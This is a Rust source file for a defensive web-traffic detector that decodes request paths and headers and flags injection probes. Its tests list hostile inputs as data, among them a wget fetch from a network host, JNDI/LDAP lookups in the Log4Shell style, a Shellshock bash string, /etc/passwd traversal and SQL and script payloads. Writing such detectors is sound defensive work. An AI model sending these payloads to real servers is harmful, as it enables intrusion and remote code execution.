//! Signal 11, injection probing: SQL and NoSQL injection, path traversal,
//! script, command, code, class-loader, template, SSI and JNDI injection,
//! header injection (CRLF) and SSRF targets, in the path, the query and
//! the captured header values. Texts are decoded as a server decodes them
//! first ([`decode`]: nested percent escapes, overlong UTF-8, HTML
//! entities, backslashes, SQL comments), then searched for the tokens of
//! `data/payloads.toml` (and the operator's lists) and judged by the
//! checks that need context ([`payload`]: `;` alone is ordinary, `;wget`
//! is not). Any status counts: an injection that succeeded is the one
//! that matters.
//!
//! Header values are only decoded and searched when they hold a byte a
//! payload needs (`$`, `{`, `'`, `|`, `` ` ``, `%`, `<`, `\`, `&`): a
//! browser's user agent and Accept headers hold none, and skip the work.

use std::{borrow::Cow, sync::Arc, time::Duration};

use aho_corasick::{AhoCorasick, MatchKind};
use serde::Deserialize;

use super::clip;
use crate::detect::{
    Detector, Obs,
    client::ClientState,
    decode::{self, decode},
    evidence::{INJECTION, Signal, emit},
    knowledge::Knowledge,
    memo::SearchMemo,
    payload::{self, Check, Checks, Place},
};
use crate::exchange::Exchange;

pub const NAME: &str = "injection-probe";

/// Header values this long at most are searched: payloads are short, and
/// the work per exchange stays bounded.
const MAX_HEADER: usize = 4096;

#[derive(Clone, Debug, PartialEq, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Spec {
    /// More patterns (lowercase substrings), reported as `custom`.
    pub extra_patterns: Vec<String>,
    #[serde(with = "humantime_serde")]
    pub cooldown: Duration,
}

impl Default for Spec {
    fn default() -> Self {
        Self { extra_patterns: Vec::new(), cooldown: Duration::from_secs(3600) }
    }
}

impl Spec {
    pub fn validate(&self) -> Result<(), String> {
        if let Some(p) = self.extra_patterns.iter().find(|p| p.is_empty()) {
            return Err(format!("extra_patterns: {p:?} is empty"));
        }
        Ok(())
    }
    pub fn build(&self, k: &Knowledge) -> Injection {
        let mut categories: Vec<String> = k.payloads.iter().map(|p| p.category.clone()).collect();
        let mut patterns: Vec<String> = k.payloads.iter().map(|p| p.token.clone()).collect();
        let mut in_headers: Vec<bool> = k.payloads.iter().map(|p| p.in_headers).collect();
        for p in &self.extra_patterns {
            categories.push("custom".into());
            patterns.push(p.to_lowercase());
            in_headers.push(true);
        }
        let anchors = anchor_table(&patterns);
        let ac = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::LeftmostFirst)
            .build(&patterns)
            .expect("patterns are plain strings");
        Injection {
            search: Arc::new(Search { ac, anchors, categories, patterns, in_headers, checks: Checks::new(k) }),
            memo: SearchMemo::default(),
        }
    }
}

/// Bytes seen in ordinary API targets, most common first; a byte not
/// listed is rarer than every listed one.
const COMMON: &[u8] = b"/aeiostnrlcpdumv1g0hb2f3k5w4y6x9j78qz-.&_=?%";

/// What a byte of a text may call for: a token's anchor (below), a
/// structural check, decoding, or a `&` that may start an entity or `&&`.
const ANCHOR: u8 = 1;
const DECODE: u8 = 2;
const AMP: u8 = 4;

/// Bytes the checks of [`payload`] start from, in a target; `+` and `%`
/// decode, and a raw space is rare enough to look at.
const TARGET_SPECIAL: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut i = 0;
    let triggers = b";|$`{'\"<\\\r\n :*";
    while i < triggers.len() {
        t[triggers[i] as usize] = ANCHOR;
        i += 1;
    }
    t[b'%' as usize] = DECODE;
    t[b'+' as usize] = DECODE;
    t[b'&' as usize] = AMP;
    t
};

/// The classes of a text's bytes, together: one table lookup a byte, where
/// a SIMD search for each class costs more in setting up than a short
/// target takes to walk.
fn classes(table: &[u8; 256], b: &[u8]) -> u8 {
    b.iter().fold(0, |acc, &c| acc | table[c as usize])
}

/// [`TARGET_SPECIAL`] with each token's rarest byte marked [`ANCHOR`] (in
/// both cases, as matching ignores ASCII case). Every token holds its
/// anchor, so a target holding none, and no byte a check starts from,
/// cannot match and skips the search.
fn anchor_table(patterns: &[String]) -> [u8; 256] {
    let rank = |b: u8| COMMON.iter().position(|&c| c == b.to_ascii_lowercase()).unwrap_or(COMMON.len());
    let mut table = TARGET_SPECIAL;
    for p in patterns {
        if let Some(b) = p.bytes().max_by_key(|&b| rank(b)) {
            table[b.to_ascii_lowercase() as usize] |= ANCHOR;
            table[b.to_ascii_uppercase() as usize] |= ANCHOR;
        }
    }
    table
}

/// Whether a `&` in `b` may mean something: `&&`, or an entity.
fn meaningful_amp(b: &[u8]) -> bool {
    memchr::memchr_iter(b'&', b).any(|i| match b.get(i + 1) {
        Some(b'&' | b'#') => true,
        Some(c) if c.is_ascii_alphabetic() => {
            let name = b[i + 1..].iter().take(8).take_while(|c| c.is_ascii_alphabetic()).count();
            name >= 2 && b.get(i + 1 + name) == Some(&b';')
                || [&b"lt"[..], b"gt", b"quot", b"apos", b"amp"]
                    .iter()
                    .any(|e| b[i + 1..].len() >= e.len() && b[i + 1..i + 1 + e.len()].eq_ignore_ascii_case(e))
        }
        _ => false,
    })
}

/// The searches, apart from the memo so that one borrows beside the other.
pub struct Search {
    ac: AhoCorasick,
    /// [`anchor_table`].
    anchors: [u8; 256],
    categories: Vec<String>,
    patterns: Vec<String>,
    in_headers: Vec<bool>,
    checks: Checks,
}

/// What was found, as one number for the memo: a token's index, or past
/// the tokens a [`Check`]'s.
impl Search {
    fn check_index(&self, c: Check) -> usize {
        self.patterns.len() + Check::ALL.iter().position(|x| *x == c).unwrap_or(0)
    }

    /// (category, what matched) of a found index.
    fn describe(&self, i: usize) -> (&str, &str) {
        match self.patterns.get(i) {
            Some(p) => (&self.categories[i], p),
            None => {
                let c = Check::ALL[(i - self.patterns.len()).min(Check::ALL.len() - 1)];
                (c.category(), c.describe())
            }
        }
    }

    /// Searches decoded text: tokens first, then the checks.
    fn decoded(&self, text: &str, place: Place) -> Option<usize> {
        let token = self
            .ac
            .find_iter(text)
            .map(|m| m.pattern().as_usize())
            .find(|&i| place == Place::Target || self.in_headers[i]);
        if token.is_some() {
            return token;
        }
        let lower = text.to_ascii_lowercase();
        self.checks.find(&lower, place).map(|c| self.check_index(c))
    }

    fn target(&self, raw: &str) -> Option<usize> {
        let b = raw.as_bytes();
        let class = classes(&self.anchors, b);
        if class & (ANCHOR | DECODE) == 0 && (class & AMP == 0 || !meaningful_amp(b)) {
            return None;
        }
        self.decoded(&decode::normalise(raw), Place::Target)
    }

    /// The first thing found in an exchange, and where (the place code of
    /// [`crate::exchange::Searched::injection`]): the target (remembered in `memo`), then the
    /// user agent, whether a log names it or a header carried it, then the
    /// header values the enricher kept (see `Exchange::payload_headers`).
    pub fn exchange(&self, ex: &Exchange, memo: &mut SearchMemo) -> Option<(u32, u16)> {
        let raw = ex.target();
        if let Some(i) = memo.find(raw.as_bytes(), || self.target(raw)) {
            return Some((i as u32, 0));
        }
        if let Some(i) = ex.user_agent().and_then(|ua| self.header(ua)) {
            return Some((i as u32, 1));
        }
        ex.payload_headers.iter().zip(2u16..).find_map(|((_, v), n)| self.header(v).map(|i| (i as u32, n)))
    }

    fn header(&self, value: &str) -> Option<usize> {
        let b = value.as_bytes();
        if b.len() > MAX_HEADER || !payload::may_hold_payload(b) {
            return None;
        }
        let text: Cow<'_, str> = decode(value, false);
        self.decoded(&text, Place::Header)
    }
}

pub struct Injection {
    /// Shared with the inspectors of a parallel replay's workers.
    search: Arc<Search>,
    /// Targets searched lately, and what was found in them.
    memo: SearchMemo,
}

impl Injection {
    /// The searches, for an inspector on another thread.
    pub fn search(&self) -> Arc<Search> {
        self.search.clone()
    }
}

impl Detector for Injection {
    fn observe(&mut self, o: &Obs<'_>, _c: &mut ClientState, out: &mut Vec<Signal>) {
        let found = match o.ex.searched {
            Some(s) => s.injection,
            None => self.search.exchange(o.ex, &mut self.memo),
        };
        let Some((i, at)) = found else { return };
        let search = &self.search;
        let (place, header) = match at {
            0 => ("target", ""),
            1 => ("user_agent", ""),
            n => match o.ex.payload_headers.get(usize::from(n) - 2) {
                Some((name, _)) => ("header", name.as_ref()),
                None => return,
            },
        };
        let (category, pattern) = search.describe(i as usize);
        let place =
            if place == "header" && crate::ascii::eq_ignore_case(header, "user-agent") { "user_agent" } else { place };
        let key = o.key.hash32() as u64 ^ crate::detect::window::h64(category.as_bytes());
        if o.cooling(key) {
            return;
        }
        emit(out, || {
            let mut s = Signal::new(
                NAME,
                INJECTION,
                key,
                vec![o.key],
                format!("{} sent a {category} injection probe ({pattern:?}) in its {place}", o.key),
            )
            .endpoint(o.endpoint)
            .with("category", category.to_string())
            .with("pattern", pattern.to_string())
            .with("in", place)
            .with("target", clip(o.ex.target(), 200))
            .with("status", o.status());
            if place == "header" {
                s = s.with("header", clip(header, 40));
            }
            s
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn search() -> Arc<Search> {
        Spec::default().build(&Knowledge::builtin()).search
    }

    fn category(s: &Search, found: Option<usize>) -> Option<String> {
        found.map(|i| s.describe(i).0.to_string())
    }

    #[test]
    fn tokens_and_checks_in_targets() {
        let s = search();
        let m = |t: &str| category(&s, s.target(t));
        assert_eq!(m("/items?id=1%27%20OR%201=1--").as_deref(), Some("sql"));
        assert_eq!(m("/users?name[$ne]=x").as_deref(), Some("nosql"));
        assert_eq!(m("/static/..%2f..%2fetc/passwd").as_deref(), Some("traversal"));
        assert_eq!(m("/static/..%252f..%252fetc/passwd").as_deref(), Some("traversal"));
        assert_eq!(m("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/x").as_deref(), Some("traversal"));
        assert_eq!(m("/static/..%5c..%5cwin.ini").as_deref(), Some("traversal"));
        assert_eq!(m("/app/..;/manager/html").as_deref(), Some("traversal"));
        assert_eq!(m("/app/%2e%2e;/manager/html").as_deref(), Some("traversal"));
        assert_eq!(m("/search?q=%3Cscript%3Ealert(1)").as_deref(), Some("script"));
        assert_eq!(m("/search?q=&lt;script&gt;alert(1)").as_deref(), Some("script"));
        assert_eq!(m("/search?q=%26%23x3c%3Bscript").as_deref(), Some("script"));
        assert_eq!(
            m("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array").as_deref(),
            Some("code")
        );
        assert_eq!(m("/x?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input").as_deref(), Some("code"));
        assert_eq!(
            m("/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x").as_deref(),
            Some("class-loader")
        );
        assert_eq!(m("/x?q=%3C!--%23exec%20cmd=%22ls%22--%3E").as_deref(), Some("ssi"));
        assert_eq!(m("/x?q=${jndi:ldap://198.51.100.1/a}").as_deref(), Some("jndi"));
        assert_eq!(m("/x?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D").as_deref(), Some("jndi"));
        assert_eq!(m("/x?ip=1;wget+http://198.51.100.1/x").as_deref(), Some("command"));
        assert_eq!(m("/x?u=%27OR%27a%27=%27a").as_deref(), Some("sql"));
        assert_eq!(m("/WIN.INI").as_deref(), Some("traversal"));
        for clean in [
            "/api/v1/orders/42?sort=desc&limit=10",
            "/search?q=rock+and+roll",
            "/search?q=rock+%26+roll",
            "/a/b/c.json",
            "/search?q=O%27Brien",
            "/search?q=a%3Cb",
            "/search?q=C%23+1%2B1",
            "/search?filter=%7B%22price%22%3A%7B%22lt%22%3A5%7D%7D",
            "/files/file..txt",
            "/contact?to=jane.doe%40example.com",
            "/render?tpl=%24%7Bamount%7D",
        ] {
            assert_eq!(m(clean), None, "{clean}");
        }
    }

    #[test]
    fn headers() {
        let s = search();
        let h = |v: &str| category(&s, s.header(v));
        assert_eq!(h("${jndi:ldap://198.51.100.1/a}").as_deref(), Some("jndi"));
        assert_eq!(h("${${::-j}ndi:rmi://x/a}").as_deref(), Some("jndi"));
        assert_eq!(h("%24%7Bjndi:dns://x%7D").as_deref(), Some("jndi"));
        assert_eq!(h("() { :; }; /bin/bash -c 'id'").as_deref(), Some("command"));
        assert_eq!(h("x' AND SLEEP(5)-- ").as_deref(), Some("sql"));
        assert_eq!(h("<script>alert(1)</script>").as_deref(), Some("script"));
        for quiet in [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
            "Mozilla/5.0 (Windows; U; Windows NT 5.1; id; rv:1.9.2) Gecko/20100101 Firefox/3.6",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            "https://www.example.com/search?q=jones%27+or+smith",
            "session=abc%3D%3D; theme=dark",
            "W/\"5e1-abc\"",
        ] {
            assert_eq!(h(quiet), None, "{quiet}");
        }
    }

    #[test]
    fn every_pattern_holds_an_anchor_and_plain_paths_hold_none() {
        let spec = Spec { extra_patterns: vec!["zzz".into(), "Ünïcode".into()], ..Spec::default() };
        let d = spec.build(&Knowledge::builtin()).search;
        for p in &d.patterns {
            assert!(classes(&d.anchors, p.as_bytes()) & ANCHOR != 0, "{p:?} has no anchor");
            let upper = p.to_ascii_uppercase();
            assert!(classes(&d.anchors, upper.as_bytes()) & ANCHOR != 0, "{upper:?} has no anchor");
        }
        for plain in ["/api/v1/products/123", "/api/v1/orders/42/items", "/v2/accounts/abc-def"] {
            assert_eq!(classes(&d.anchors, plain.as_bytes()), 0, "{plain} would run the automaton or be decoded");
        }
        assert!(!meaningful_amp(b"/a?x=1&y=2&z"));
        assert!(meaningful_amp(b"/a?x=1&&id") && meaningful_amp(b"/a?x=&#60;") && meaningful_amp(b"/a?x=&lt;b"));
    }
}
